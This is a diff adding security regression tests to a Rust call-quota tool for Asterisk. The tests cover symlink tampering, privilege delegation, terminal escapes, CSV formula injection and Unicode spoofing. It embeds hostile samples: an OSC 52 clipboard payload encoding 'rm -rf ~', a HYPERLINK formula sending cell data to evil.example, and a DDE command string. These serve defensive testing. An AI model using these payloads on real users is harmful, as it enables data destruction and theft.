@@ -137,7 +137,7 @@ fn a_huge_stamp_in_the_include_does_not_wrap_the_generation() {
     assert!(text.contains("18446744073709551615"));
     fs::write(site.include_path(), text).unwrap();
     site.run("2026-11-26T10:05:00");
-    let generation = callquota::dialplan::generation_in(&site.include()).unwrap();
+    let generation = callquota::core::dialplan::generation_in(&site.include()).unwrap();
     assert!(generation >= 2, "generation {generation}");
 }
 
@@ -351,4 +351,597 @@ fn a_trickling_smtp_server_meets_the_deadline_after_the_block_is_in_place() {
     // Mail comes last: the block was committed and written before the server hung.
     assert!(site.include().contains("exten => 2055,1,Return(DENY)"));
     assert_eq!(site.count("SELECT COUNT(*) FROM outbox WHERE status = 'pending'"), 1);
+}
+
+// ------------------------------------------------ security round 2 (issue #21)
+
+/// A site whose notices go to `.eml` files in `mail/` (a directory others may write).
+fn site_with_mail_dir() -> Site {
+    let site = Site::with_fake(|c| {
+        c.push_str("\n[mail]\ntransport = \"dir\"\ndir = \"MAILDIR\"\nfrom = \"callquota@example.com\"\n")
+    });
+    let dir = site.path("mail");
+    fs::create_dir(&dir).unwrap();
+    let text = fs::read_to_string(&site.config)
+        .unwrap()
+        .replace("\"MAILDIR\"", &format!("{:?}", dir.display().to_string()));
+    site.write_config(&text);
+    site
+}
+
+fn is_state(path: &std::path::Path) -> bool {
+    fs::read(path).unwrap().starts_with(b"SQLite format 3\0")
+}
+
+#[test]
+fn a_link_at_the_mail_probe_name_never_wipes_the_state() {
+    let site = site_with_mail_dir();
+    site.add_user(T, "2055", "100");
+    site.insert(&[Call::answered("2055", MOBILE, "2026-11-26 09:00:00", 600)]);
+    site.run(T);
+    let before = site.dump();
+    let mail = site.path("mail");
+    // The fixed probe name of earlier releases, and the names of mail files, aimed at the state.
+    symlink(site.path("state.db"), mail.join(".callquota-probe")).unwrap();
+    symlink(site.path("state.db"), mail.join(".callquota-probe.tmp")).unwrap();
+    let out = site.at("2026-11-26T10:05:00", &["check"]);
+    assert!(stdout(&out).contains("is writable"), "{}", stdout(&out));
+    site.ok("2026-11-26T10:05:00", &["grant", "2055", "1m"]);
+    assert!(
+        is_state(&site.path("state.db")),
+        "state.db was truncated through a planted link"
+    );
+    assert!(
+        fs::symlink_metadata(mail.join(".callquota-probe"))
+            .unwrap()
+            .file_type()
+            .is_symlink()
+    );
+    assert!(site.dump().starts_with(&before[..before.find("ledger:").unwrap()]));
+    assert!(site.include().contains("exten => 2055,1,Return("));
+}
+
+#[test]
+fn an_empty_or_foreign_state_file_is_never_taken_for_a_new_state() {
+    let site = site_with_user();
+    site.insert(&[Call::answered("2055", MOBILE, "2026-11-26 09:00:00", 5000)]);
+    site.run(T);
+    assert!(site.include().contains("exten => 2055,1,Return(DENY)"));
+    let include = site.include();
+    // What the old probe attack left: a 0-byte state. Then something that is not SQLite.
+    for planted in [&b""[..], &b"not a database\n"[..]] {
+        fs::write(site.path("state.db"), planted).unwrap();
+        for args in [
+            &["run", "--if-configured"][..],
+            &["run"][..],
+            &["status"][..],
+            &["grant", "2055", "10m"][..],
+            &["user", "add", "2077", "--name", "X", "--daily-limit", "1m"][..],
+            &["migrate"][..],
+        ] {
+            let out = site.at("2026-11-26T10:05:00", args);
+            assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr(&out));
+            let err = stderr(&out);
+            assert_eq!(err.lines().count(), 1, "{args:?}: {err}");
+            assert!(err.contains("state_db") && err.contains("backup"), "{args:?}: {err}");
+        }
+        assert_eq!(
+            fs::read(site.path("state.db")).unwrap(),
+            planted,
+            "the planted file was changed"
+        );
+        assert_eq!(site.include(), include, "the block was lifted");
+    }
+    let out = site.at("2026-11-26T10:05:00", &["check"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(stdout(&out).contains("FAIL  state"), "{}", stdout(&out));
+    // An SQLite database that is not callquota's is not migrated into one.
+    fs::remove_file(site.path("state.db")).unwrap();
+    rusqlite::Connection::open(site.path("state.db"))
+        .unwrap()
+        .execute_batch("CREATE TABLE photos (x)")
+        .unwrap();
+    let out = site.at("2026-11-26T10:05:00", &["run"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(stderr(&out).contains("not callquota's state"), "{}", stderr(&out));
+}
+
+#[test]
+fn only_an_explicit_first_run_or_user_command_creates_a_missing_state() {
+    let site = Site::with_fake(|_| {});
+    let state = site.path("state.db");
+    for args in [
+        &["run", "--if-configured"][..],
+        &["status"][..],
+        &["user", "list"][..],
+        &["log"][..],
+        &["mail", "list"][..],
+        &["report"][..],
+    ] {
+        let out = site.at(T, args);
+        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr(&out));
+        assert!(
+            stderr(&out).contains("does not exist") && stderr(&out).contains("migrate"),
+            "{args:?}: {}",
+            stderr(&out)
+        );
+        assert!(!state.exists(), "{args:?} created the state");
+    }
+    site.run(T);
+    assert!(is_state(&state));
+    // No temp file is left beside it.
+    let names: Vec<_> = fs::read_dir(site.dir.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .filter(|n| n.starts_with(".callquota"))
+        .collect();
+    assert!(names.is_empty(), "{names:?}");
+    assert_eq!(fs::metadata(&state).unwrap().mode() & 0o777, 0o640);
+    for args in [
+        &["migrate"][..],
+        &["user", "add", "2055", "--name", "V", "--daily-limit", "1m"][..],
+    ] {
+        let site = Site::with_fake(|_| {});
+        site.ok(T, args);
+        assert!(is_state(&site.path("state.db")), "{args:?}");
+    }
+}
+
+#[test]
+fn the_callers_tz_never_decides_the_day() {
+    // No timezone in the config: the day comes from the system's zone files.
+    let site = Site::with_fake(|c| *c = c.replace("timezone = \"Asia/Almaty\"\n", ""));
+    site.add_user("2026-11-26T11:00:00Z", "2055", "30m");
+    site.run("2026-11-26T11:00:00Z");
+    // 11:00 UTC is already the 27th at UTC+14 and still the 25th at UTC-12.
+    let day_with = |tz: &str| {
+        let out = site
+            .cmd()
+            .env("TZ", tz)
+            .args(["--now", "2026-11-26T11:00:00Z", "status", "--json"])
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{}", stderr(&out));
+        let rows: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+        rows[0]["day"].as_str().unwrap().to_string()
+    };
+    let day = day_with("Pacific/Kiritimati");
+    assert_eq!(day, day_with("Etc/GMT+12"));
+    assert_eq!(day, day_with(":Asia/Tokyo"));
+    // A caller's TZ cannot make cron's state close a day either.
+    let out = site
+        .cmd()
+        .env("TZ", "Pacific/Kiritimati")
+        .args(["--now", "2026-11-26T11:05:00Z", "run"])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(site.count("SELECT COUNT(*) FROM ledger WHERE closed = 1"), 0);
+}
+
+#[test]
+fn a_delegated_command_cannot_choose_its_config_clock_or_paths() {
+    let site = site_with_user();
+    site.run(T);
+    let before = site.dump();
+    // An evil config whose asterisk_cli would run as the service user.
+    let marker = site.path("pwned");
+    let evil = site.path("evil.toml");
+    fs::write(
+        &evil,
+        fs::read_to_string(&site.config).unwrap().replace(
+            "asterisk_cli = [",
+            &format!("asterisk_cli = [\"/bin/touch\", \"{}\"]\n#", marker.display()),
+        ),
+    )
+    .unwrap();
+    let delegated = |args: &[&str], env: &[(&str, &str)]| {
+        let mut c = std::process::Command::new(env!("CARGO_BIN_EXE_callquota"));
+        c.env_remove("CALLQUOTA_CONFIG").env("SUDO_UID", "1000").args(args);
+        for (k, v) in env {
+            c.env(k, v);
+        }
+        c.output().unwrap()
+    };
+    let cfg = site.config.display().to_string();
+    let evil = evil.display().to_string();
+    let html = site.path("page.html").display().to_string();
+    let csv = site.path("staff.csv").display().to_string();
+    let db = site.path("other.db").display().to_string();
+    type Case<'a> = (Vec<&'a str>, Vec<(&'a str, &'a str)>, &'a str);
+    let cases: Vec<Case> = vec![
+        (vec!["--config", &evil, "status"], vec![], "--config"),
+        (vec!["status"], vec![("CALLQUOTA_CONFIG", &evil)], "--config"),
+        (vec!["--config", &cfg, "status"], vec![], "--config"),
+        (
+            vec!["grant", "2055", "10m", "--now", "2027-01-01T10:00:00", "--allow-future"],
+            vec![],
+            "--now",
+        ),
+        (vec!["grant", "2055", "10m", "--allow-future"], vec![], "--allow-future"),
+        (vec!["report", "--html", &html], vec![], "report --html"),
+        (vec!["user", "import", "--csv", &csv], vec![], "user import --csv"),
+        (vec!["migrate", "--state-db", &db], vec![], "migrate --state-db"),
+    ];
+    for (args, env, option) in cases {
+        let out = delegated(&args, &env);
+        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
+        let err = stderr(&out);
+        assert_eq!(err.lines().count(), 1, "{err}");
+        assert!(
+            err.contains(option) && err.contains("delegated") && err.contains("uid 1000"),
+            "{err}"
+        );
+    }
+    assert!(!marker.exists(), "the evil config's command ran");
+    assert!(!site.path("page.html").exists() && !site.path("other.db").exists());
+    assert_eq!(site.dump(), before);
+    // doas and pkexec leave their own marks instead of SUDO_UID.
+    for (var, value, says) in [
+        ("DOAS_USER", "alice", "alice through doas"),
+        ("PKEXEC_UID", "1000", "uid 1000 through pkexec"),
+    ] {
+        let out = std::process::Command::new(env!("CARGO_BIN_EXE_callquota"))
+            .env_remove("CALLQUOTA_CONFIG")
+            .env_remove("SUDO_UID")
+            .env(var, value)
+            .args(["--config", &evil, "status"])
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(2), "{var}: {}", stderr(&out));
+        assert!(stderr(&out).contains(says), "{}", stderr(&out));
+    }
+    assert!(!marker.exists(), "the evil config's command ran");
+    // Without the risky options a delegated command goes on to the installed config.
+    let out = delegated(&["status"], &[]);
+    assert!(!stderr(&out).contains("delegated"), "{}", stderr(&out));
+    // root running sudo -u callquota is root: trusted with every option.
+    let out = site
+        .cmd()
+        .env("SUDO_UID", "0")
+        .args(["--now", T, "status"])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+}
+
+#[test]
+fn an_include_made_unreadable_for_asterisk_is_repaired_by_the_next_run() {
+    let site = Site::with_fake(|_| {});
+    site.add_user(T, "2055", "30m");
+    site.run(T);
+    let path = site.include_path();
+    let mode = |p: &std::path::Path| fs::metadata(p).unwrap().mode() & 0o7777;
+    assert_eq!(mode(&path), 0o644);
+    let text = site.include();
+    // The asterisk group swaps in a 0640 file with our header: the same
+    // bytes (runs would say "unchanged"), then other bytes.
+    for planted in [
+        text.clone(),
+        text.replace("exten => 2055,1,Return(", "exten => 2055,1,NoOp("),
+    ] {
+        fs::remove_file(&path).unwrap();
+        fs::write(&path, &planted).unwrap();
+        fs::set_permissions(&path, fs::Permissions::from_mode(0o640)).unwrap();
+        let out = site.at("2026-11-26T10:05:00", &["check"]);
+        assert_eq!(out.status.code(), Some(1));
+        assert!(
+            stdout(&out).contains("FAIL  include file") && stdout(&out).contains("mode 0640"),
+            "{}",
+            stdout(&out)
+        );
+        let same = planted == text;
+        site.run("2026-11-26T10:05:00");
+        assert_eq!(mode(&path), 0o644, "the run kept read bits Asterisk cannot use");
+        assert_eq!(site.include() == text, same, "same bytes keep their generation");
+        assert!(
+            site.include().contains("exten => 2055,1,Return(1800000:0)"),
+            "the limit is back"
+        );
+        let out = site.at("2026-11-26T10:05:00", &["check"]);
+        assert!(!stdout(&out).contains("mode 0"), "{}", stdout(&out));
+    }
+    // Another owner (who could chmod it at will): replaced by one of ours.
+    if unsafe { libc::geteuid() } == 0 {
+        std::os::unix::fs::chown(&path, Some(NOBODY), Some(NOBODY)).unwrap();
+        site.run("2026-11-26T10:10:00");
+        assert_eq!(fs::metadata(&path).unwrap().uid(), 0);
+        assert_eq!(mode(&path), 0o644);
+    }
+}
+
+/// OSC 52: "put this in the clipboard", which a terminal would obey.
+const OSC52: &str = "\x1b]52;c;cm0gLXJmIH4K\x07";
+
+fn assert_escaped(what: &str, out: &std::process::Output) {
+    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
+        assert!(
+            !bytes.iter().any(|&b| b == 0x1b || b == 0x07),
+            "{what}: raw escape on {stream}: {:?}",
+            String::from_utf8_lossy(bytes)
+        );
+    }
+}
+
+/// An SMTP server that answers every sender with a reply carrying OSC 52.
+fn escaping_smtp_server() -> u16 {
+    use std::io::{BufRead, BufReader, Write};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for stream in listener.incoming().take(20) {
+            let Ok(mut stream) = stream else { continue };
+            let _ = stream.write_all(b"220 evil.example ESMTP\r\n");
+            let mut reader = BufReader::new(stream.try_clone().unwrap());
+            let mut line = String::new();
+            while reader.read_line(&mut line).is_ok_and(|n| n > 0) {
+                let verb = line.get(..4).unwrap_or("").to_ascii_uppercase();
+                let reply = match verb.as_str() {
+                    "EHLO" | "HELO" => "250 evil.example\r\n".to_string(),
+                    "MAIL" => format!("553 5.7.1 {OSC52} sender refused\r\n"),
+                    "QUIT" => "221 bye\r\n".to_string(),
+                    _ => "250 ok\r\n".to_string(),
+                };
+                if stream.write_all(reply.as_bytes()).is_err() || verb == "QUIT" {
+                    break;
+                }
+                line.clear();
+            }
+        }
+    });
+    port
+}
+
+#[test]
+fn outside_text_reaches_the_terminal_escaped() {
+    let port = escaping_smtp_server();
+    let site = Site::with_fake(|c| {
+        c.push_str(&format!(
+            "\n[mail]\n[smtp]\nhost = \"127.0.0.1\"\nport = {port}\nsecurity = \"none\"\nfrom = \"cq@example.com\"\ntimeout_s = 5\n"
+        ))
+    });
+    site.add_user(T, "2055", "100");
+    // A CDR number carrying the sequence, sent to the trunk as a paid number: check quotes it.
+    let mut call = Call::answered("2055", &format!("8701{OSC52}"), "2026-11-26 09:00:00", 20);
+    call.lastdata = format!("PJSIP/{MOBILE}@kcell,300,T");
+    site.insert(&[call, Call::answered("2055", MOBILE, "2026-11-26 09:10:00", 600)]);
+    let out = site.at(T, &["run"]);
+    assert_eq!(out.status.code(), Some(1), "the notice is refused: {}", stderr(&out));
+    assert_escaped("run", &out);
+    assert!(stderr(&out).contains("\\u{1b}]52;c;"), "{}", stderr(&out));
+    assert!(site.include().contains("exten => 2055,1,Return(DENY)"));
+    let out = site.at(T, &["mail", "list"]);
+    assert_escaped("mail list", &out);
+    assert!(stdout(&out).contains("\\u{1b}]52;c;"), "{}", stdout(&out));
+    let out = site.at(T, &["mail", "test", "admin@example.com"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert_escaped("mail test", &out);
+    let out = site.at(T, &["check"]);
+    assert_escaped("check", &out);
+    assert!(stdout(&out).contains("dialled 8701\\u{1b}]52;c;"), "{}", stdout(&out));
+    let out = site.at(T, &["calls", "2055"]);
+    assert_escaped("calls", &out);
+
+    // Asterisk's reply to a failed reload: in the error, the audit log and `log`.
+    let reload = site.path("evil-reload");
+    fs::write(
+        &reload,
+        "#!/bin/sh\nprintf 'No such command \\033]52;c;cm0gLXJmIH4K\\007\\n'\nexit 1\n",
+    )
+    .unwrap();
+    fs::set_permissions(&reload, fs::Permissions::from_mode(0o755)).unwrap();
+    let config = fs::read_to_string(&site.config).unwrap();
+    let line = config.lines().find(|l| l.starts_with("reload_command")).unwrap();
+    site.write_config(&config.replace(line, &format!("reload_command = [\"{}\"]", reload.display())));
+    site.ok(T, &["user", "add", "2077", "--name", "B", "--daily-limit", "1m"]);
+    let out = site.at("2026-11-26T10:05:00", &["run"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert_escaped("run with a failing reload", &out);
+    assert!(
+        site.count("SELECT COUNT(*) FROM audit WHERE event = 'reload_failed' AND detail LIKE '%' || char(27) || '%'")
+            >= 1
+    );
+    let out = site.at("2026-11-26T10:05:00", &["log"]);
+    assert_escaped("log", &out);
+    assert!(stdout(&out).contains("reload_failed"), "{}", stdout(&out));
+}
+
+/// Runs `args` and fails the test if it has not ended within 20 s.
+fn within_20s(site: &Site, args: &[&str]) -> std::process::Output {
+    let mut child = site.process().arg("--now").arg(T).args(args).spawn().unwrap();
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    while child.try_wait().unwrap().is_none() {
+        if std::time::Instant::now() > deadline {
+            let _ = child.kill();
+            panic!("{args:?} hung");
+        }
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    child.wait_with_output().unwrap()
+}
+
+#[test]
+fn check_reads_extensions_custom_bounded_and_regular_files_only() {
+    let site = Site::with_fake(|_| {});
+    site.add_user(T, "2055", "30m");
+    site.run(T);
+    let custom = site.path("asterisk/extensions_custom.conf");
+    // A FIFO nobody writes: a plain read would block for ever.
+    let c = std::ffi::CString::new(custom.clone().into_os_string().into_encoded_bytes()).unwrap();
+    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o666) }, 0);
+    let out = within_20s(&site, &["check"]);
+    assert!(stdout(&out).contains("not a regular file"), "{}", stdout(&out));
+    // A link to /dev/zero: a plain read would eat the memory.
+    fs::remove_file(&custom).unwrap();
+    symlink("/dev/zero", &custom).unwrap();
+    let out = within_20s(&site, &["check"]);
+    assert!(stdout(&out).contains("not a regular file"), "{}", stdout(&out));
+    // The CSV import and a password file are read the same way.
+    let out = within_20s(&site, &["user", "import", "--csv", "/dev/zero", "--daily-limit", "1m"]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(stderr(&out).contains("not a regular file"), "{}", stderr(&out));
+}
+
+#[test]
+fn calls_shows_at_most_limit_rows_and_says_there_are_more() {
+    let site = Site::with_fake(|_| {});
+    site.add_user(T, "2055", "30m");
+    let calls: Vec<_> = (0..5)
+        .map(|i| Call::answered("2055", MOBILE, &format!("2026-11-26 09:0{i}:00"), 10))
+        .collect();
+    site.insert(&calls);
+    site.run(T);
+    let rows = |out: &str| out.lines().filter(|l| l.starts_with("2026-11-26 09:")).count();
+    let all = site.ok(T, &["calls", "2055"]);
+    assert_eq!(rows(&all), 5, "{all}");
+    assert!(
+        !all.contains("more rows") && all.contains("2026-11-26: counted"),
+        "{all}"
+    );
+    let some = site.ok(T, &["calls", "2055", "--limit", "3"]);
+    assert_eq!(rows(&some), 3, "{some}");
+    assert!(some.contains("(more rows: only the first 3 are shown"), "{some}");
+    assert!(
+        !some.contains("2026-11-26: counted"),
+        "an incomplete day's total: {some}"
+    );
+    let out = site.at(T, &["calls", "2055", "--limit", "2", "--json"]);
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(json.as_array().unwrap().len(), 2);
+    assert!(stderr(&out).contains("more rows"), "{}", stderr(&out));
+    assert_eq!(site.at(T, &["calls", "2055", "--limit", "0"]).status.code(), Some(2));
+}
+
+#[test]
+fn names_that_are_spreadsheet_formulas_come_out_of_report_csv_inert() {
+    let site = Site::with_fake(|_| {});
+    let names = [
+        ("2055", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Vasya\")"),
+        ("2066", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("2077", "+1-2"),
+        ("2088", "-3+4"),
+    ];
+    for (ext, name) in names {
+        site.ok(
+            T,
+            &["user", "add", ext, &format!("--name={name}"), "--daily-limit", "30m"],
+        );
+    }
+    site.run(T);
+    let csv = site.ok(T, &["report", "--csv"]);
+    for line in csv.lines().skip(1).filter(|l| !l.starts_with("TOTAL")) {
+        let name = line.split_once(',').unwrap().1;
+        let cell = name.trim_start_matches('"');
+        assert!(cell.starts_with('\''), "a formula cell: {line}");
+    }
+    assert!(
+        csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Vasya\"\")\""),
+        "{csv}"
+    );
+    assert!(csv.contains("'@SUM(1+1)*cmd|' /C calc'!A0"), "{csv}");
+}
+
+#[test]
+fn names_with_bidi_overrides_or_zero_width_characters_are_refused() {
+    let site = site_with_user();
+    let before = site.dump();
+    let spoofs = [
+        "Vasya \u{202E}nikpuP", // right-to-left override
+        "Vasya \u{202D}Pupkin", // left-to-right override
+        "Vasya \u{2066}Pupkin\u{2069}",
+        "Vasya\u{200E} Pupkin",
+        "Vasya\u{200F} Pupkin",
+        "Vas\u{200B}ya Pupkin",
+        "Vas\u{200C}ya",
+        "Vas\u{200D}ya",
+        "\u{FEFF}Vasya",
+        "Vas\u{2060}ya",
+        "Vas\u{00AD}ya",       // soft hyphen
+        "\u{3164}",            // a blank Hangul "letter"
+        "Vasya\u{E0041}",      // a tag character
+        "Vasya\u{FE0F}",       // a variation selector
+        "Vasya\u{2028}Pupkin", // a line separator
+        "Vas\u{180E}ya",       // Mongolian vowel separator
+        "\u{2800}",            // braille blank
+    ];
+    for name in spoofs {
+        for args in [
+            vec!["user", "add", "2077", "--name", name, "--daily-limit", "1m"],
+            vec!["user", "set", "2055", "--name", name],
+            vec!["grant", "2055", "1m", "--by", name],
+            vec!["grant", "2055", "1m", "--reason", name],
+        ] {
+            let out = site.at(T, &args);
+            assert_eq!(out.status.code(), Some(2), "{name:?} {args:?}: {}", stderr(&out));
+            assert_eq!(stderr(&out).lines().count(), 1);
+            assert!(
+                stderr(&out).is_ascii(),
+                "the refusal echoes the character: {}",
+                stderr(&out)
+            );
+        }
+    }
+    assert_eq!(site.dump(), before, "something was stored");
+    // A CSV import names the row and imports nothing.
+    let csv = site.path("staff.csv");
+    fs::write(
+        &csv,
+        "extension,name,email,daily_limit\n2078,Ivan,,30m\n2077,\"Ivan \u{202E}vonaP\",,30m\n",
+    )
+    .unwrap();
+    let out = site.at(T, &["user", "import", "--csv", csv.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("line 3: 2077") && stderr(&out).contains("invisible"),
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(site.count("SELECT COUNT(*) FROM users WHERE extension = '2078'"), 0);
+    assert_eq!(site.count("SELECT COUNT(*) FROM users WHERE extension = '2077'"), 0);
+    // Names in other scripts are fine.
+    site.ok(
+        T,
+        &[
+            "user",
+            "add",
+            "2066",
+            "--name",
+            "Әсел Нұрланқызы",
+            "--daily-limit",
+            "1m",
+        ],
+    );
+}
+
+#[test]
+fn no_password_in_clear_text_to_a_port_any_local_user_could_have_bound() {
+    // A local user's listener on an unprivileged port, where the relay was meant to be.
+    let squatter = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    squatter.set_nonblocking(true).unwrap();
+    let port = squatter.local_addr().unwrap().port();
+    let smtp = format!(
+        "\n[mail]\n[smtp]\nhost = \"127.0.0.1\"\nport = {port}\nsecurity = \"none\"\nfrom = \"cq@example.com\"\n\
+         username = \"cq\"\npassword = \"Sup3rSecret\"\ntimeout_s = 2\n"
+    );
+    let site = Site::with_fake(|c| c.push_str(&smtp));
+    for args in [&["mail", "test", "admin@example.com"][..], &["check"][..], &["run"][..]] {
+        let out = site.at(T, args);
+        assert_eq!(out.status.code(), Some(78), "{args:?}: {}", stderr(&out));
+        let err = stderr(&out);
+        assert_eq!(err.lines().count(), 1);
+        assert!(
+            err.contains("accept_port_squatting_risk = true") && err.contains("port = 25"),
+            "{err}"
+        );
+        assert!(!err.contains("Sup3rSecret"));
+    }
+    assert!(squatter.accept().is_err(), "callquota connected to the squatted port");
+    // Named, the risk is the admin's choice.
+    site.write_config(
+        &fs::read_to_string(&site.config)
+            .unwrap()
+            .replace("timeout_s = 2\n", "timeout_s = 2\naccept_port_squatting_risk = true\n"),
+    );
+    let out = site.at(T, &["check"]);
+    assert_ne!(out.status.code(), Some(78), "{}", stderr(&out));
 }
